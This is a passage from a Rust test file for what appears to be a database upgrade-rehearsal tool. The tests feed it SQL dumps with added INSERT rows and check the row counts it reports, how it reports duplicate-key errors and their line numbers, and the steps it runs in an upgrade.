    let rows: Vec<String> = (0..60)
        .map(|number| {
            format!(
                "INSERT INTO `parent` VALUES ({},'n{number}');\n",
                number + 10
            )
        })
        .collect();
    text.insert_str(
        end,
        &format!(
            "LOCK TABLES `parent` WRITE;\n{}UNLOCK TABLES;\n",
            rows.concat()
        ),
    );
    let Some(rehearsal) = Rehearsal::of(text.as_bytes(), &["--no-civicrm", "--jobs", "4"]) else {
        return;
    };
    assert_eq!(rehearsal.exit(), Some(0), "{:#}", rehearsal.section());
    assert_eq!(rehearsal.section()["rows"], 62);
    // What fails on any of them has its place.
    let twice = text.replace("VALUES (69,", "VALUES (68,");
    let failed =
        Rehearsal::of(twice.as_bytes(), &["--no-civicrm", "--jobs", "4"]).expect("as before");
    let failure = &failed.section()["failures"][0];
    assert_eq!(failure["server_error"], 1062);
    let lines = twice.lines().enumerate();
    let lines = lines.filter(|(_, line)| line.contains("VALUES (68,"));
    let mut lines = lines.map(|(before, _)| before as u64 + 1);
    assert!(lines.any(|line| failure["line"] == line), "{failure:#}");
}

#[test]
fn the_steps_of_an_upgrade_are_run_and_held_against_the_forecast() {
    let dumps = common::real_dumps().into_iter();
    let Some(dump) = dumps
        .into_iter()
        .find(|path| common::name(path).starts_with("5.75.2-to-5.81"))
    else {
        return;
    };
    let Some(server) = server::installed() else {
        return;
    };
    let (_, report) = rehearsed(server, &dump, &["--target", "6.4.1"]);
    let steps = &report["rehearsal"]["steps"];
    assert!(steps["operations"].as_u64() > Some(20), "{steps:#}");
    assert_eq!(steps["stop"], Value::Null, "{steps:#}");
}
